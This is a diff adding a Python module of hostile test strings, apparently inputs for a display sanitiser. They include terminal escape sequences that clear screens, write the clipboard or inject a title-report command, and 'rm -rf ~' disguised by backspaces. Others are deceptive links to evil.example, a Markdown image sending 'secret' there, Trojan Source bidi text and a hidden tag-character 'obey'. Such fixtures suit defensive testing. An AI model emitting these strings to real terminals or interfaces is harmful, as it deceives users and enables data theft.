@@ -1,0 +1,100 @@
+"""Strings that attack whoever shows them, each by the name of what it tries.
+
+`HOSTILE` holds everything that must not reach a terminal as it is; `MARKUP` is harmless to a
+terminal and dangerous to a front end that reads plain text as its own markup.
+"""
+
+HOSTILE: dict[str, str] = {
+    # Colours, styles and the screen
+    "colour": "\x1b[31mred\x1b[0m",
+    "conceal what follows": "\x1b[8mhidden",
+    "clear the screen": "before\x1b[2J\x1b[Hafter",
+    "clear the scrollback": "\x1b[3J",
+    "move up and overwrite": "line\x1b[1A\x1b[2Kforged line",
+    "alternate screen": "\x1b[?1049h",
+    "hide the cursor": "\x1b[?25l",
+    "report every mouse move": "\x1b[?1003h\x1b[?1006h",
+    "bracketed paste off": "\x1b[?2004l",
+    "full reset": "\x1bc",
+    "line-drawing character set": "\x1b(0lqqk",
+    "fill the screen with E": "\x1b#8",
+    "scroll region": "\x1b[1;2r",
+    # Answers the terminal types back into the shell
+    "ask who the terminal is": "\x1b[c",
+    "ask where the cursor is": "\x1b[6n",
+    "ask for the title": "\x1b]0;touch /tmp/x\x07\x1b[21t",
+    "ask for a setting by DCS": "\x1bP$qm\x1b\\",
+    "ask for a termcap entry": "\x1bP+q544e\x1b\\",
+    "answerback": "\x05",
+    # OSC
+    "change the title": "\x1b]0;owned\x07",
+    "change the title, ended by ST": "\x1b]2;owned\x1b\\",
+    "write the clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
+    "read the clipboard": "\x1b]52;c;?\x07",
+    "link that lies": "\x1b]8;;https://evil.example\x1b\\https://bank.example\x1b]8;;\x1b\\",
+    "change the palette": "\x1b]4;1;rgb:00/00/00\x07",
+    "desktop notice": "\x1b]9;click me\x07",
+    "inline file": "\x1b]1337;File=name=eA==;inline=1:AAAA\x07",
+    "change the working directory": "\x1b]7;file:///etc\x07",
+    "OSC that never ends": "text \x1b]0;and the rest of the page",
+    "OSC with an escape inside": "\x1b]0;a\x1b[31mb\x07c",
+    # DCS, APC, PM, SOS
+    "sixel picture": "\x1bPq#0;2;0;0;0#0~~@@vv\x1b\\",
+    "kitty picture": "\x1b_Gf=24,s=1,v=1;AAAA\x1b\\",
+    "tmux passthrough": "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\",
+    "privacy message": "\x1b^secret\x1b\\",
+    "start of string": "\x1bXhidden\x1b\\",
+    # The same in eight bits
+    "8-bit CSI": "\x9b31mred\x9b0m",
+    "8-bit OSC": "\x9d52;c;eA==\x9c",
+    "8-bit DCS": "\x90$qm\x9c",
+    "8-bit APC": "\x9fGf=24;AAAA\x9c",
+    "next line": "one\x85two",
+    # Nested: what is left must not become a sequence
+    "a sequence inside an introducer": "\x1b\x1b[0m[31mred",
+    "a sequence inside a sequence": "\x1b[3\x1b[0m1mred",
+    "an 8-bit one inside a 7-bit one": "\x1b\x9b0m[31mred",
+    "a zero width inside an introducer": "\x1b\u200b[31mred",
+    "an OSC inside an OSC": "\x1b]0;\x1b]0;x\x07y\x07",
+    "three escapes in a row": "\x1b\x1b\x1b[2J",
+    "a lone escape at the end": "text\x1b",
+    "an unfinished CSI at the end": "text\x1b[31",
+    # Control characters
+    "backspaces over what was said": "rm -rf ~\b\b\b\b\b\b\b\bls      ",
+    "overstrike": "N\bNA\bAM\bME\bE",
+    "carriage return over what was said": "rm -rf ~\rls      ",
+    "Windows line ends": "one\r\ntwo\r\n",
+    "bell": "\a" * 3,
+    "form feed and vertical tab": "one\x0ctwo\x0bthree",
+    "shift out": "\x0eabc\x0f",
+    "NUL in a name": "file.txt\x00.exe",
+    "delete": "abc\x7f\x7f",
+    "XOFF": "\x13",
+    # Unicode
+    "right-to-left override in a file name": "photo\u202egpj.exe",
+    "Trojan Source": "if (access) \u202e\u2066// admin only\u2069 \u2066{",
+    "isolates left open": "\u2067\u2066\u2068never closed",
+    "marks of direction": "a\u200eb\u200fc\u061cd",
+    "line separator": "one\u2028two\u2029three",
+    "byte order mark": "\ufeffimport os",
+    "zero width between letters": "pass\u200bword\u2060s",
+    "joiners between letters": "pay\u200dpal\u200c.com",
+    "joiner that a removal would bare": "é\u200d\ufeffa",
+    "soft hyphens": "in\u00advis\u00adible",
+    "order written in tag characters": "hi" + "".join(chr(0xE0000 + ord(c)) for c in "obey"),
+    "lone surrogate": "half \ud83d of it",
+    "surrogates the wrong way round": "\ude00\ud83d",
+    "interlinear annotation": "a\ufff9b\ufffac\ufffb",
+}
+
+MARKUP: dict[str, str] = {
+    "style": "[red]not red[/red]",
+    "closing nothing": "[/]",
+    "closing another": "[/bold]",
+    "link": "[link=https://evil.example]https://bank.example[/link]",
+    "action": "[@click=app.quit]press me[/]",
+    "action with an argument": "[@click=app.open_url('https://evil.example')]x[/]",
+    "backslash before the bracket": "\\[red]",
+    "emoji code": ":pile_of_poo:",
+    "Markdown picture": "![x](https://evil.example/?q=secret)",
+}
